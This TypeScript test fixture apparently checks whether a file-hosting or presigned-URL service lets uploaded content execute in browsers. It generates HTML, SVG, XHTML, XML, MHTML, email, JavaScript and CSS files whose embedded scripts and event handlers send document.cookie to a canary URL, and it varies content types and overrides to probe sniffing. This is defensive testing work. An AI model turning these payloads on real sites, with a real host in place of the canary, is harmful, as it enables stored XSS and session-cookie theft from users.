export interface HostileFile {
  name: string;
  type: string | undefined;
  body: string;
  /** `response-content-type` of the presigned address. */
  override?: string;
}

/**
 * Says that it ran: to the console of the browser, which no policy can forbid, and to the canary with what it could read
 * of our cookie. Runs in pages and in workers.
 */
function attack(canary: string, name: string): string {
  const report = `'${canary}/${name}?'+(typeof document==='undefined'?'worker':document.cookie)`;
  return `console.log('ran ${name}');fetch(${report});if(typeof Image!=='undefined')new Image().src=${report};`;
}

/** Files that act when a browser takes them for what they are, or for what they are not. */
export function hostileFiles(canary: string): HostileFile[] {
  const script = (name: string) => attack(canary, name);
  const html = (name: string) =>
    `<!doctype html><script>${script(name)}</script><img src="${canary}/${name}-img" onerror="${script(name)}">` +
    `<form action="${canary}/${name}-form"><input autofocus onfocus="${script(name)}"></form>`;
  const svg = (name: string) =>
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${script(name)}"><script>${script(name)}</script>` +
    `<image href="${canary}/${name}-image"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">` +
    `<iframe src="${canary}/${name}-frame"/></body></foreignObject></svg>`;
  const asHtml = (name: string, type: string | undefined): HostileFile => ({ name, type, body: html(name) });
  return [
    asHtml('page.html', 'text/html'),
    asHtml('odd-charset', 'text/html; charset=utf-7'),
    asHtml('upper-case', 'TEXT/HTML'),
    asHtml('two-types', 'text/plain, text/html'),
    asHtml('sniff.txt', 'text/plain'),
    asHtml('sniff.png', 'image/png'),
    asHtml('sniff.json', 'application/json'),
    asHtml('sniff.pdf', 'application/pdf'),
    asHtml('unknown-type', 'unknown/unknown'),
    asHtml('any-type', '*/*'),
    asHtml('no-type.html', undefined),
    { ...asHtml('override.bin', 'application/octet-stream'), override: 'text/html' },
    { ...asHtml('override.txt', 'text/plain'), override: 'application/xhtml+xml' },
    {
      name: 'page.xhtml',
      type: 'application/xhtml+xml',
      body: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${xmlText(script('page.xhtml'))}</script></html>`,
    },
    { name: 'picture.svg', type: 'image/svg+xml', body: svg('picture.svg') },
    { name: 'svg-as-xml', type: 'text/xml', body: svg('svg-as-xml') },
    {
      name: 'feed.xml',
      type: 'application/rss+xml',
      body: `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${xmlText(script('feed.xml'))}</x:script>`,
    },
    {
      name: 'style.xml',
      type: 'application/xml',
      body: `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${canary}/style.xml-sheet"?><a/>`,
    },
    {
      name: 'saved.mhtml',
      type: 'multipart/related',
      body: `MIME-Version: 1.0\nContent-Type: text/html\n\n${html('saved.mhtml')}`,
    },
    { name: 'mail.eml', type: 'message/rfc822', body: `Content-Type: text/html\n\n${html('mail.eml')}` },
    { name: 'code.js', type: 'text/javascript', body: script('code.js') },
    { name: 'code.txt', type: 'text/plain', body: script('code.txt') },
    {
      name: 'code.bin',
      type: 'application/octet-stream',
      body: script('code.bin'),
      override: 'text/javascript',
    },
    {
      name: 'paint.css',
      type: 'text/css',
      body: `@import url(${canary}/paint.css);body{background:url(${canary}/bg)}`,
    },
    { name: 'paint.txt', type: 'text/plain', body: `@import url(${canary}/paint.txt);` },
  ];
}

function xmlText(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
}
